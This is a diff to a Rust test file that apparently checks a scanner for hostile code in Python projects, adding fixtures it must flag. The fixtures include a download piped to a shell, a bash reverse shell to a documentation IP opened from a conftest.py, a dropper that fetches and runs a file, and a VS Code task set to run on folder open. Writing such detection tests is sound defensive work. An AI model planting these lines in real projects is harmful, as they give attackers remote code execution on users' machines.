@@ -754,7 +754,8 @@ fn nothing_passes_unread() {
 /// decoded data, `__import__('os')`, a decoded or downloaded command, a thread started at
 /// import, a guard that is not a main guard, pytest hooks, `atexit`, a default argument,
 /// `exec(open(...).read())` of a data file, a VS Code `folderOpen` task, a download made
-/// executable and an in-tree build backend. Payloads are harmless and never run.
+/// executable, an in-tree build backend, a download piped to a shell and a reverse shell at
+/// import. Payloads are harmless and never run.
 #[test]
 fn evasions_are_followed() {
     let dir = tempfile::tempdir().unwrap();
@@ -781,6 +782,8 @@ fn evasions_are_followed() {
         ("data/blob.dat", payload.clone()),
         ("pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n".into()),
         ("backend.py", format!("import os\nos.system(\"{marker}\")\n\ndef build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    raise NotImplementedError\n")),
+        ("piped/__init__.py", "import subprocess\nsubprocess.run(\"curl -s https://example.invalid/x | sh\", shell=True)\n".into()),
+        ("reverse/conftest.py", "import subprocess\nsubprocess.call(\"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\", shell=True)\n".into()),
         ("dropper/__init__.py", "import os, subprocess, urllib.request\ndef _fetch():\n    path = os.path.expanduser(\"~/.cache/tool\")\n    urllib.request.urlretrieve(\"https://example.invalid/tool\", path)\n    os.chmod(path, 0o755)\n    subprocess.Popen([path])\n_fetch()\n".into()),
         (".vscode/tasks.json", format!("{{\n  // opened, then run\n  \"version\": \"2.0.0\",\n  \"tasks\": [\n    {{\n      \"label\": \"setup\",\n      \"command\": \"sh\",\n      \"args\": [\"-c\", \"{marker}\"],\n      \"runOptions\": {{ \"runOn\": \"folderOpen\" }},\n    }},\n  ],\n}}\n")),
     ];
@@ -809,6 +812,8 @@ fn evasions_are_followed() {
         ("import-time-code", ".vscode/tasks.json", 9, "error"),
         ("hidden-process", "dropper/__init__.py", 5, "error"),
         ("install-time-code", "backend.py", 2, "warning"),
+        ("import-time-code", "piped/__init__.py", 2, "error"),
+        ("import-time-code", "reverse/conftest.py", 2, "error"),
     ] {
         assert_fires(&all, rule, file, line, severity);
     }
